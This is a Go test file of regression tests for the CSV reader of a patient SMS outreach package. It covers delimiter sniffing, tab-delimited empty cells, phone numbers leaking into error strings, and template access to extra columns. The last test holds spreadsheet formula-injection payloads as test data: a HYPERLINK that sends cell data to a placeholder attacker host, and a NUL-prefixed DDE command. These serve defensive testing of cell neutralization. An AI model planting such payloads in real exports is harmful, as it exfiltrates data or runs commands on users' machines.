package csvio

// Regression tests from review: each one failed on a bug of the package
// (or of how it meets outreach's templates), now fixed.

import (
	"context"
	"strings"
	"testing"

	"github.com/patient-outreach/sms/outreach"
)

// A ';' file as Excel saves it in many locales does not quote a cell that
// holds commas. When the header has as many commas as semicolons, sniff
// picks ',' (ties go to ',') and the valid file is refused as having no
// required column at all.
func TestRegressionSemicolonFileWithCommasInHeader(t *testing.T) {
	in := "patient_id;patient_first_name;patient_phone;Address (street, city, state, zip)\n" +
		"A1;Maya;4406443709;1 Main St, Springfield, OH, 44101\n"
	res, err := ReadAll(context.Background(), strings.NewReader(in), Options{})
	if err != nil {
		t.Fatalf("ReadAll: %v; want the ';' file read: its header has 3 semicolons between the required columns", err)
	}
	if len(res.Recipients) != 1 {
		t.Fatalf("got %d recipients, errors %v; want 1", len(res.Recipients), res.Errors)
	}
}

// Options.Comma accepts '\t', but the reader sets TrimLeadingSpace, which
// encoding/csv applies even when the delimiter is white space: an empty
// cell's tab is eaten, the row has one cell too few, and a valid row (an
// empty first name is only a warning) is reported as malformed.
func TestRegressionTabDelimitedEmptyCell(t *testing.T) {
	in := "patient_id\tpatient_first_name\tpatient_phone\n" +
		"A1\t\t4406443709\n"
	rows, err := readRows(t, in, Options{Comma: '\t'})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1 {
		t.Fatalf("got %d rows, want 1", len(rows))
	}
	if !rows[0].OK() || rows[0].Recipient.Phone != "+14406443709" {
		t.Fatalf("row = %+v, errors %v; want a usable row with an empty first name (a warning)", rows[0].Recipient, rows[0].Errors)
	}
}

// A file saved without its header has a data row on line 1. When two of
// its cells are equal (a phone number in two columns, here), the header
// check reports a duplicate column whose name is the cell: the phone
// number ends up in the error string, which callers log (DESIGN: no PHI in
// logs or errors).
func TestRegressionHeaderErrorLeaksRowData(t *testing.T) {
	in := "A1,Maya,4406443709,4406443709\nA2,Jonah,4406443710,4406443710\n"
	_, err := NewRecipientReader(strings.NewReader(in), Options{})
	if err == nil {
		t.Fatal("a file with no header was accepted")
	}
	if strings.Contains(err.Error(), "4406443709") {
		t.Fatalf("header error holds a phone number from the file: %q", err)
	}
}

// An extra column keeps its header lower-cased but with its inner spaces,
// so "Clinic Name" becomes Attrs["clinic name"]; a template variable cannot
// hold a space, and the natural {{data.clinic_name}} (the way the required
// columns are matched: inner spaces read as underscores) renders as "".
// Nothing reports it: the message goes out with a blank.
func TestRegressionExtraColumnWithSpaceIsAddressable(t *testing.T) {
	in := "patient_id,patient_first_name,patient_phone,Clinic Name\n" +
		"A1,Maya,4406443709,Main Street Clinic\n"
	res, err := ReadAll(context.Background(), strings.NewReader(in), Options{})
	if err != nil || len(res.Recipients) != 1 {
		t.Fatalf("ReadAll: %v, %+v", err, res)
	}
	got, err := outreach.Render("See you at {{data.clinic_name}}.", res.Recipients[0], nil)
	if err != nil {
		t.Fatal(err)
	}
	if got != "See you at Main Street Clinic." {
		t.Fatalf("rendered %q (attrs %v); the column \"Clinic Name\" cannot be reached from a template", got, res.Recipients[0].Attrs)
	}
}

// Neutralize only looks at the first byte. Cells that start with white
// space or a NUL before '=' are left alone, although spreadsheets that
// trim or skip them (LibreOffice with "trim spaces", some Sheets imports)
// evaluate the formula, and ASVS 1.2.10 names the NUL character. The raw
// reply column is written by the patient, so the payload is theirs.
func TestRegressionNeutralizeLeadingSpaceOrNUL(t *testing.T) {
	for _, in := range []string{
		" =HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"\u00a0=1+1",
		"\x00=cmd|' /C calc'!A0",
	} {
		if got := Neutralize(in); got == in {
			t.Errorf("Neutralize(%q) left the cell as it is", in)
		}
	}
}
